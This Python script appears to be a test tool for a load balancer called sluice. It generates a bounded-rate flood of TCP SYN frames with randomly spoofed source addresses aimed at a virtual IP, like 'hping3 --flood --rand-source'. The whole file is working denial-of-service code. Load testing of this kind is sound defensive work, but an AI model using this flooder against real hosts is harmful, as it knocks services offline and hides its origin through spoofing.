"""Floods a VIP with TCP SYNs from random spoofed sources, as hping3 --flood --rand-source
does, for a bounded time and at a bounded rate: raw Ethernet frames on the client's port,
addressed to sluice's front MAC. Prints how many it sent.
usage: synflood.py IFACE DST_MAC VIP PORT SECONDS PER_SECOND SOURCE_PREFIX(/16)
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def main():
    iface, dst_mac, vip, port, seconds, rate, prefix = sys.argv[1:8]
    port, seconds, rate = int(port), float(seconds), int(rate)
    base = struct.unpack("!I", socket.inet_aton(prefix.split("/")[0]))[0] & 0xFFFF0000
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    src_mac = s.getsockname()[4]
    eth = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00"
    dst = socket.inet_aton(vip)
    # Frames prepared ahead: checksums cost Python more than sending does.
    frames = []
    for _ in range(65536):  # distinct tuples: 16 times the table, each new when it comes round
        src = struct.pack("!I", base | random.randint(1, 0xFFFE))
        sport = random.randint(1024, 65535)
        tcp = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 5 << 4, 0x02,
                          64240, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        frames.append(eth + ip + tcp)
    sent = 0
    start = time.monotonic()
    batch = 256
    while time.monotonic() < start + seconds:
        for f in frames[sent % len(frames):][:batch]:
            s.send(f)
        sent += batch
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(sent)


main()
